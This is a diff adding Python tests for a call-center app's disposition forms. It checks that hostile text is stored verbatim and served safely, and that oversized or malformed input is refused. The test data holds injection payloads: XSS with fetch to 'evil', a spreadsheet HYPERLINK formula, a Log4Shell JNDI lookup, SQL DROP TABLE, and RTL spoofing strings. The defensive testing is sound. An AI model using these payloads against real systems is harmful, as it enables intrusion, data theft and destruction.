@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import msgspec
+import pytest
 
 from ari_app.model.call import FinalState
 from ari_app.model.facts import SurveyAnswered
@@ -145,3 +146,57 @@ async def test_P5_disposition_is_checked_stored_once_and_opens_its_case(house: H
     assert (case.json["kind"], case.json["form"]) == ("support", {"fault": "noise", "kind": "line"})
     other = await given_operator(house, "1002")
     assert (await house.ask("POST", url, other, json={"answers": {"fault": "x"}})).status == 404
+
+
+HOSTILE = {
+    "html": "<img src=x onerror=alert(1)><script>fetch('//evil')</script>",
+    "formula": '=HYPERLINK("http://evil","paid")',
+    "control": "ab\x1b[2J\x07\r\n\x85\u2028end",
+    "rtl": "\u202egnp.exe\u202c \u0627\u0644\u0633\u0644\u0627\u0645 \u200f1,000",
+    "template": "{{7*7}} ${jndi:ldap://evil} %s %n '; DROP TABLE calls; --",
+    "astral": "\U0001f4a9" * 500,
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+async def test_P5_hostile_text_in_a_form_is_stored_and_told_as_it_was_typed(house: House, text: str) -> None:
+    await house.given_call("c1", operator="1001", queue="support")
+    token = await given_operator(house, "1001")
+    url = "/calls/c1/disposition"
+    written = await house.ask("POST", url, token, json={"answers": {"fault": text}})
+    assert written.status == 201
+    assert written.json["answers"] == {"fault": text}
+    assert (await house.ask("GET", url, token)).json["answers"] == {"fault": text}
+    assert await house.journal.flush()
+    case = await house.ask("GET", f"/cases/{written.json['protocol']}", token)
+    assert case.json["form"] == {"fault": text}
+    assert case.headers["Content-Type"].startswith("application/json"), "no browser takes it for a page"
+    assert case.headers["X-Content-Type-Options"] == "nosniff"
+
+
+async def test_P5_a_form_of_a_megabyte_or_of_nonsense_is_refused_and_nothing_is_kept(house: House) -> None:
+    await house.given_call("c1", operator="1001", queue="support")
+    token = await given_operator(house, "1001")
+    url = "/calls/c1/disposition"
+    for answers in (
+        {"fault": "x" * 1_000_000},
+        {"fault": "x" * 2001},
+        {"fault": ["a", "list"]},
+        {"fault": {"a": "tree"}},
+        {"fault": 7},
+        {f"field{number}": "x" for number in range(101)},
+        {"<script>": "x"},
+        {"fault": "a NUL\x00"},
+    ):
+        refused = await house.ask("POST", url, token, json={"answers": answers})
+        assert refused.status in {400, 413, 422}, str(answers)[:60]
+        assert "Traceback" not in refused.body.decode()
+    for raw in (
+        b'{"answers": {"fault": "\\ud800"}}',
+        b'{"answers": {"fault": NaN}}',
+        b"\xff\xfe",
+        b"[" * 5000,
+    ):
+        headers = {"Content-Type": "application/json"}
+        assert (await house.ask("POST", url, token, data=raw, headers=headers)).status in {400, 422}, raw[:40]
+    assert (await house.ask("GET", url, token)).status == 404
